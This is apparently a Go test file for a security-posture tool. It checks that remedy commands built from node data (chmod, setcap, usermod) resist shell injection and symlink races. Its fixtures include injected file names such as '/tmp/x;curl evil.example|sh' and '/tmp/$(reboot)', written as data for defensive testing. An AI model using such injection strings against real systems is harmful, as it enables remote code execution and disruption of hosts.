package posture_test

import (
	"regexp"
	"strings"
	"testing"

	"github.com/pvesec/terraform-provider-pvesec/internal/node"
	"github.com/pvesec/terraform-provider-pvesec/internal/paths"
)

// TestRemediesAreHarmless: users give files their names, and people paste remedies into a shell of root. No remedy that
// is a command has a name that a shell acts on, in the graph, in the cuts and in the report.
func TestRemediesAreHarmless(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"/tmp/x;curl evil.example|sh", "/tmp/$(reboot)", "/tmp/`reboot`", "/tmp/a b", "/tmp/x&", "/tmp/~root", "/tmp/'", "/tmp/\"", "/tmp/x\ny", "/tmp/*", "/tmp/{a,b}", "/tmp/#x", "/tmp/x\\y", "/tmp/!!", "/tmp/ä"} {
		record := "F 4755 0 0 9 " + name + "\x00" + "F 2755 1000 1000 9 " + name + "2\x00"
		r := report(t, &fake{Sections: map[string]node.Section{
			node.SectionSetID:        data(record),
			node.SectionPlaces:       data("f 666 1000 111 /etc/cron.d" + name + "\x00\x00"),
			node.SectionCapabilities: data(strings.ReplaceAll(name, "\n", "") + " cap_setuid=ep\n"),
			node.SectionPasswd:       data(passwd + "a;b:x:1007:1007::/home/ab:/bin/bash\n"), node.SectionPasswords: data("a;b NP\n"),
			node.SectionGroup: data(group + "c;d:x:1008:a;b\ndisk:x:6:a;b\n"),
		}})
		commands := 0
		for _, s := range r.Graph.Steps() {
			if command(s) {
				commands++
				if !regexp.MustCompile(`^[a-z]+( [A-Za-z0-9._/@%+-]+)*$`).MatchString(s.Remedy) {
					t.Errorf("%q: the remedy is %q", name, s.Remedy)
				}
			}
			if s.Remedy == "" && s.Way != "local" {
				t.Errorf("no remedy: %+v", s)
			}
		}
		if len(r.Paths) == 0 || commands == 0 {
			t.Errorf("%q: %d paths, %d commands", name, len(r.Paths), commands)
		}
	}
	harmless := report(t, &fake{Sections: map[string]node.Section{node.SectionSetID: data("F 4755 0 0 9 /opt/my-tool_1.2\x00")}})
	if got := harmless.Paths[0].Steps[len(harmless.Paths[0].Steps)-1].Remedy; got != "chmod u-s -- /opt/my-tool_1.2" {
		t.Errorf("the remedy of a harmless name is %q", got)
	}
}

// command tells whether a remedy is a command line: what is in words begins with a capital letter.
func command(s paths.Step) bool {
	return s.Remedy != "" && (s.Remedy[0] < 'A' || s.Remedy[0] > 'Z')
}

// TestRemediesFollowNoLink: chmod(1) and setcap(8) follow a link that somebody puts in place of a file after the
// report. Where somebody else than root can do that, there is no command.
func TestRemediesFollowNoLink(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		sections map[string]node.Section
		command  bool
	}{
		"a program in a home":           {map[string]node.Section{node.SectionSetID: data("F 4755 0 0 9 /home/bob/x\x00"), node.SectionStates: states("41ed 1000 0 /home/bob")}, false},
		"a program in /tmp":             {map[string]node.Section{node.SectionSetID: data("F 4755 0 0 9 /tmp/x\x00"), node.SectionStates: states("43ff 0 0 /tmp")}, false},
		"a program of root":             {map[string]node.Section{node.SectionSetID: data("F 4755 0 0 9 /opt/x\x00")}, true},
		"a capability in a home":        {map[string]node.Section{node.SectionCapabilities: data("/home/bob/x cap_setuid=ep\n"), node.SectionStates: states("41ed 1000 0 /home/bob", "81ed 0 0 /home/bob/x")}, false},
		"a file in a place that is his": {map[string]node.Section{node.SectionPlaces: data("d 755 1000 0 /etc/cron.d/x\x00\x00f 646 0 0 /etc/cron.d/x/y\x00\x00")}, false},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for _, s := range report(t, &fake{Sections: test.sections}).Graph.Steps() {
				if (strings.HasPrefix(s.Remedy, "chmod") || strings.HasPrefix(s.Remedy, "setcap")) != test.command && (s.Way == "set-id" || s.Way == "capability" || strings.Contains(s.Does, "/x/y")) {
					t.Errorf("%s: the remedy is %q", s.Does, s.Remedy)
				}
			}
		})
	}
}

// TestRemedyOfAPrimaryGroup: gpasswd(1) takes nobody out of it.
func TestRemedyOfAPrimaryGroup(t *testing.T) {
	t.Parallel()
	r := report(t, &fake{Sections: map[string]node.Section{node.SectionPasswd: data(passwd + "dan:x:1009:110::/home/dan:/bin/bash\n")}})
	for _, s := range r.Graph.From("linux_account:pve1/dan") {
		if s.Way == "member" && !strings.Contains(s.Remedy, "usermod -g") {
			t.Errorf("the remedy is %q", s.Remedy)
		}
	}
}
